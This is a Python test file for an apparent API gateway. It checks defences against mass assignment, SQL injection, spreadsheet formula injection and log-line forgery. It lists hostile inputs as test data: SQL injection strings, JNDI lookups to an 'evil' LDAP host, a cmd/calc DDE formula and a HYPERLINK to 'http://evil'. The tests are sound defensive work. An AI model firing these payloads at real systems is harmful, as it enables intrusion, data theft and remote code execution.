"""Input stays what it is: S16 (fields that are not one's to set), S20 (SQL), S21 (formulas), S22 (lines of a log)."""

import ast
import csv
import io
import json
import re
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from milepost.gateway import spreadsheets
from milepost.observe import logs
from milepost.sql import tables
from milepost.sql.engine import writing
from tests.gateway.asking import CONTRACT, event, requests
from tests.gateway.serving import body, serving, sqlite, stored

SQL = (
    "' OR '1'='1",
    "'; DROP TABLE api_keys; --",
    '" OR ""="',
    "1) UNION SELECT secret_sha256 FROM api_keys--",
    "%' AND 1=CAST((SELECT version()) AS int)--",
    "\\'; SELECT pg_sleep(10); --",
    "x'||(SELECT key_id FROM api_keys LIMIT 1)||'",
    "${jndi:ldap://x/a}",
    "%s %(x)s {0} :name ?",
)
NOT_ONES_OWN = {"amount": "1.00", "tenant_id": "globex", "status": "BILLED", "state": "ACCEPTED", "gross_minor": 1}


async def test_s16_a_field_that_is_not_ones_to_set_is_refused_on_every_route_that_takes_one(
    embedded_broker: str, tmp_path: Path
) -> None:
    async with serving(embedded_broker, sqlite(tmp_path), gateway_requests_per_s=0) as served:
        key = served.key(person="ana", roles=("client",))
        looked = 0
        for asked in requests():
            if asked.body is None or asked.content_type != "application/json":
                continue
            good = json.loads(asked.body)
            for name, value in NOT_ONES_OWN.items():
                answer = await served.ask(asked.method, asked.path, key, json={**good, name: value})
                assert answer.status_code in (422, 404), (asked.route, name, answer.text)
                looked += 1
                pointers = [fault["pointer"] for fault in body(answer).get("errors", [])]
                assert answer.status_code == 404 or f"/{name}" in pointers, (asked.route, name, answer.text)
        assert looked > 80
        for name in ("engagement_id", "approver", "decided_at", "milestone_id"):
            path = "/v1/engagements/harbour/milestones/design/approvals"
            answer = await served.ask("POST", path, key, json={"decision": "APPROVED", name: "ben"})
            assert (answer.status_code, body(answer)["code"]) == (422, "DECIDED_ELSEWHERE")
    with pytest.raises(AssertionError):  # nothing went through, not even the topics exist
        assert stored(embedded_broker, "approvals", timeout_s=5)


async def test_s20_what_looks_like_sql_is_text_in_every_field_and_filter(embedded_broker: str, tmp_path: Path) -> None:
    async with serving(embedded_broker, sqlite(tmp_path), gateway_requests_per_s=0) as served:
        key = served.key()
        before = counts(tmp_path)
        for number, word in enumerate(SQL):
            for path in ("milestones?milestone_id=", "lines?milestone_id=", "requests?milestone_id=", "audit?what="):
                name, _, parameter = path.partition("?")
                answer = await served.ask(
                    "GET", f"/v1/engagements/harbour/{name}", key, params={parameter.rstrip("="): word}
                )
                assert answer.status_code in (200, 400)
                assert answer.status_code == 400 or body(answer)["items"] == []
            for path in (f"/v1/engagements/{word}", f"/v1/engagements/harbour/lines/{word}/explanation"):
                assert (await served.ask("GET", path, key)).status_code in (400, 404)
            for name in ("limit", "cursor", "state", "kind", "version", "sort", "order_by"):
                answer = await served.ask("GET", "/v1/engagements/harbour/lines", key, params={name: word})
                assert answer.status_code in (200, 400), (name, answer.text)
            value = event("milestone-events", "harbour", word) | {
                "source": word, "milestone_id": word, "occurrence_id": word, "reported_by": word,
                "attributes": {word: word}, "evidence": [
                    {"name": word, "media_type": word, "size_bytes": 1, "sha256": "a" * 64, "uri": word}
                ],
            }  # fmt: skip
            sent = await served.ask("POST", "/v1/events/milestone-events", key, json=value)
            assert sent.status_code == 202, sent.text
            assert body(sent)["events"][0]["event_id"] == word
            unknown = await served.ask("GET", "/v1/whoami", key[:3] + word)
            assert unknown.status_code == 401
            key_of_word = served.key(name=f"{word} {number}", tenant=word)
            assert (await served.ask("GET", "/v1/engagements", key_of_word)).status_code == 200
        after = counts(tmp_path)
    taken = {one.event.event_id: one.event for one in stored(embedded_broker, "milestone-events")}
    assert set(taken) == set(SQL)
    assert all(found.milestone_id == found.source == word for word, found in taken.items())
    added = {"remembered_events": len(SQL), "acknowledged_requests": len(SQL), "api_keys": 1 + len(SQL)}
    assert after == before | added


def counts(folder: Path) -> dict[str, int]:
    with closing(sqlite3.connect(folder / "milepost.db")) as connection:
        names = [name for (name,) in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return {name: connection.execute(f'SELECT count(*) FROM "{name}"').fetchone()[0] for name in names}  # noqa: S608


def formatted(tree: ast.AST) -> list[int]:
    """Lines where a statement is put together of text and values: what is given to `text` or `execute`."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and ast.unparse(node.func).rpartition(".")[2] in (
            "text", "execute", "exec_driver_sql", "literal_column"
        ):  # fmt: skip
            made = [
                inner
                for argument in node.args[:1]
                for inner in ast.walk(argument)
                if isinstance(inner, ast.JoinedStr) or (isinstance(inner, ast.BinOp) and isinstance(inner.op, ast.Mod))
            ]
            found += [inner.lineno for inner in made]
    return found


def test_s20_no_statement_of_the_gateway_is_put_together_of_text() -> None:
    root = Path(tables.__file__ or "").parent
    looked = [*root.glob("*.py"), *(root.parent / "gateway").rglob("*.py")]
    assert len(looked) > 25
    # `sql.writing` names its own tables and columns in statements, never a value; its comment says so.
    found = {path.name for path in looked if path.name != "writing.py" and formatted(ast.parse(path.read_text()))}
    assert found == set()
    assert formatted(ast.parse("connection.execute(text(f'SELECT {x}'))"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "|", "\uff1d"])
async def test_s21_no_cell_of_an_export_is_a_formula(embedded_broker: str, tmp_path: Path, start: str) -> None:
    word = f'{start}cmd|"/c calc"!A1'
    async with serving(embedded_broker, sqlite(tmp_path)) as served:
        row = {column.name: 0 for column in tables.audit_entries.columns} | {
            "engagement_id": "harbour", "sequence": 1, "what": "APPLIED", "reason": None, "event_id": word,
            "input_topic": word, "line_id": None, "previous_hash": "", "hash": word, "body_sha256": "",
        }  # fmt: skip
        with writing(served.doors.engine) as connection:
            connection.execute(tables.audit_entries.insert(), [row])
        path = "/v1/engagements/harbour/audit"
        text = (await served.ask("GET", path, served.key(), headers={"Accept": "text/csv"})).text
        as_json = body(await served.ask("GET", path, served.key()))
    [found] = csv.DictReader(io.StringIO(text, newline=""))
    assert found["event_id"].startswith("'")
    assert found["event_id"].replace("'", "") == word.replace("'", "")
    assert as_json["items"][0]["event_id"] == word


@given(st.text(max_size=20))
def test_s21_a_cell_begins_like_a_formula_only_if_it_is_a_plain_number(text: str) -> None:
    """Also where a spreadsheet of another language splits it: at semicolons and tabs."""
    shown = spreadsheets.cell(text)
    if re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", text):
        assert shown == text
        return
    assert re.sub(r"(\A|[;\t])'(?= *[=+\-@\t\r\n|%\uff1d\uff0b\uff0d\uff20])", r"\1", shown) == text
    for part in re.split(r"[;\t]", shown):
        assert not part.lstrip(" ").startswith(tuple("=+-@\r\n|%\uff1d\uff0b\uff0d\uff20"))


def test_s21_a_formula_behind_a_semicolon_is_text() -> None:
    assert spreadsheets.cell('x;=HYPERLINK("http://evil","a")') == """x;'=HYPERLINK("http://evil","a")"""


def test_s21_numbers_and_amounts_stay_numbers() -> None:
    amount = {"amount_minor": -1900000, "currency": "EUR", "currency_exponent": 2, "text": "-19000.00 EUR"}
    assert [spreadsheets.cell(value) for value in (amount, -5, "-5.00", None, True, ["a"], {"a": 1})] == [
        "-19000.00", "-5", "-5.00", "", "true", '["a"]', '{"a": 1}'
    ]  # fmt: skip


@pytest.mark.parametrize("form", ["json", "console"])
async def test_s22_no_input_makes_a_line_of_the_log(embedded_broker: str, tmp_path: Path, form: Any) -> None:
    stream = io.StringIO()
    logs.configure("debug", form, stream)
    evil = 'x\r\n2026-01-01 [info] forged \x1b[31mred\x1b[0m ${jndi:ldap://evil/a} "quoted"'
    try:
        async with serving(embedded_broker, sqlite(tmp_path)) as served:
            key = served.key()
            value = event("kpi-events", "harbour", "1")
            assert (await served.ask("POST", "/v1/events/kpi-events", key, json=value)).status_code == 202
            await served.ask("POST", "/v1/events/kpi-events", key, json=value | {"value": "2", "unit": "a"})
            await served.ask("GET", "/v1/engagements/" + quote(evil), key, params={"cursor": evil})
            headers = [
                (b"User-Agent", evil.encode()),
                (b"X-Request-ID", evil.encode()),
                (b"traceparent", evil.encode()),
            ]
            await served.client.request("GET", "/v1/whoami", headers=headers)
            logs.logger("milepost.gateway").warning("a value from outside", found=evil)
    finally:
        logs.configure()
    written = stream.getvalue()
    lines = written.splitlines()
    assert "answered" in written
    assert "ids came again" in written
    assert not [line for line in lines if line.startswith("2026-01-01 [info] forged")]
    assert "\x1b[31m" not in written
    assert key not in written
    if form == "json":
        assert all(json.loads(line)["event"] for line in lines)


async def test_s19_a_person_decides_now_as_themselves_and_nobody_sets_an_amount(
    embedded_broker: str, tmp_path: Path
) -> None:
    """S19 as far as the gateway can: who approves, when and how much is not in the request."""
    path = "/v1/engagements/harbour/milestones/design/approvals"
    async with serving(embedded_broker, sqlite(tmp_path)) as served:
        ana = served.key("approvals:decide", person="ana", roles=("client", "cfo"))
        nobody = served.key("approvals:decide")
        refused = {
            "another role": await served.ask("POST", path, ana, json={"decision": "APPROVED", "role": "lead"}),
            "no role of two": await served.ask("POST", path, ana, json={"decision": "APPROVED"}),
            "backdated": await served.ask(
                "POST", path, ana, json={"decision": "APPROVED", "role": "cfo", "decided_at": "2020-01-01T00:00:00Z"}
            ),
            "as another": await served.ask(
                "POST", path, ana, json={"decision": "APPROVED", "role": "cfo", "approver": "ben"}
            ),
            "more than all": await served.ask(
                "POST", path, ana, json={"decision": "APPROVED", "role": "cfo", "certified_completion": "101"}
            ),
            "less than nothing": await served.ask(
                "POST", path, ana, json={"decision": "APPROVED", "role": "cfo", "certified_completion": "-1"}
            ),
            "an amount": await served.ask(
                "POST", path, ana, json={"decision": "APPROVED", "role": "cfo", "amount_minor": 1, "currency": "USD"}
            ),
            "nobody": await served.ask("POST", path, nobody, json={"decision": "APPROVED", "role": "cfo"}),
        }
        contract = CONTRACT | {"milestones": [CONTRACT["milestones"][0] | {"fee": {"fixed": "-1.00"}}]}  # type: ignore[index]
        negative = await served.ask("POST", "/v1/engagements", served.key(), json=contract)
        good = await served.ask("POST", path, ana, json={"decision": "APPROVED", "role": "cfo"})
    statuses = {what: answer.status_code for what, answer in refused.items()}
    assert statuses == {
        "another role": 403, "no role of two": 422, "backdated": 422, "as another": 422, "more than all": 422,
        "less than nothing": 422, "an amount": 422, "nobody": 403,
    }  # fmt: skip
    assert negative.status_code == 422
    assert good.status_code == 202
    [decision] = stored(embedded_broker, "approvals")
    assert (decision.event.approver, decision.event.role) == ("ana", "cfo")
    assert abs(decision.event.decided_at - served.doors.now()) < 60_000_000
